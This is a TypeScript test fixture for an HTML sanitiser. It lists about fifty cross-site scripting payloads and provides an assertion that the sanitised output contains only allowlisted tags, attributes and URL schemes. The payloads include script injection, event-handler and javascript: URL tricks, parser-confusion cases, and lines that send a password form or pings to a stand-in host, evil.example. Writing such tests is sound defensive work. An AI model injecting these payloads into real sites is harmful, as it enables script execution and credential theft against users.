/** HTML that has run scripts in somebody's page, and the check that it can in ours no more. */
import { expect } from 'vitest';

export const HOSTILE_HTML: readonly string[] = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src="/x.png" onerror="alert(1)" style="position:fixed" srcset="x">',
  '<img/src="/x"/onload=alert(1)//',
  '<img src="`><script>alert(1)</script>">',
  '<p onclick=alert(1) style="background:url(javascript:alert(1))" class="x" data-x="y">t</p>',
  '<svg/onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<textarea><script>alert(1)</textarea><img src=x onerror=alert(1)>',
  '<title><img src=x onerror=alert(1)></title>',
  '<template><script>alert(1)</script></template>',
  '<iframe src="javascript:alert(1)" srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="data:text/html,<script>alert(1)</script>"></object><embed src=x>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="javascript&colon;alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:x">x</a><a href="blob:x">y</a><a href="file:///etc/passwd">z</a>',
  '<a href="//evil.example">x</a><a href="/\\evil.example">y</a>',
  '<a target=_top href="https://a.example" ping="https://evil.example">x</a>',
  '<base href="https://evil.example/"><link rel=stylesheet href=x><meta http-equiv=refresh content="0;url=x">',
  '<style>*{background:url(https://evil.example)}</style><style>@import "x"',
  '<form action="https://evil.example"><input name=password><button formaction=x>Sign in</button></form>',
  '<video src=x onerror=alert(1)></video><audio src=javascript:alert(1) onerror=alert(1)>',
  '<details ontoggle=alert(1) open>x</details>',
  '<div id="location"><img name="cookie" id="Body Parts"></div><h2 id="a b">x</h2>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!-- --!><img src=x onerror=alert(1)> -->',
  '<?xml version="1.0"?><![CDATA[<img src=x onerror=alert(1)>]]>',
  '<plaintext><img src=x onerror=alert(1)>',
  '<xmp><img src=x onerror=alert(1)></xmp><listing>&lt;img src=x onerror=alert(1)&gt;</listing>',
  '<select><template><img src=x onerror=alert(1)></template></select>',
  '<table><td><p></table><img src=x onerror=alert(1)><b title="</p><script>alert(1)</script>">',
  '<abbr title="&quot;><script>alert(1)</script>">x</abbr>',
  "<abbr title='\"><script>alert(1)</script>'>x</abbr>",
  '<abbr title="x" title=`"><script>alert(1)</script>`>x',
  '<p/onmouseover="alert(1)"/a=">x',
  '<x-y><img src=x onerror=alert(1)></x-y><marquee onstart=alert(1)>x</marquee>',
  '<img src="https://a.example/x" alt="--><script>alert(1)</script>"><',
  '<p>\0<scr\0ipt>alert(1)</scr\0ipt>',
];

/** The only tags there may be, each as the sanitiser writes it. */
const TAG =
  /<(?:\/[a-z][a-z0-9]*|(?:h[1-6]|p|div|section|a|b|em|abbr|details|summary|table|tbody|tr|td|pre|code|figure|br|img|audio)(?: [a-z]+="[^"<>]*")*)>/g;
const ATTRIBUTE = / (?<name>[a-z]+)="(?<value>[^"]*)"/g;
const SAFE_ATTRIBUTES = new Set('href src alt title id rel loading controls preload open'.split(' '));

/** Asserts that a text holds nothing but known tags with harmless attributes. */
export function inertOnly(html: string): void {
  expect(html.replace(TAG, '')).not.toMatch(/[<>]/);
  for (const [tag] of html.matchAll(TAG)) {
    expect(tag).not.toMatch(
      /^<\/?(?:script|svg|math|style|iframe|object|embed|form|input|button|base|link|meta)/,
    );
    for (const { groups } of tag.matchAll(ATTRIBUTE)) {
      expect(SAFE_ATTRIBUTES.has(groups?.name ?? ''), tag).toBe(true);
      if (groups?.name === 'href' || groups?.name === 'src') {
        expect(groups.value, tag).toMatch(/^(?:https?:\/\/|mailto:|#|\/(?![/\\]))/);
      }
      if (groups?.name === 'id') expect(groups.value).toMatch(/^[a-z0-9-]+$/);
    }
  }
}
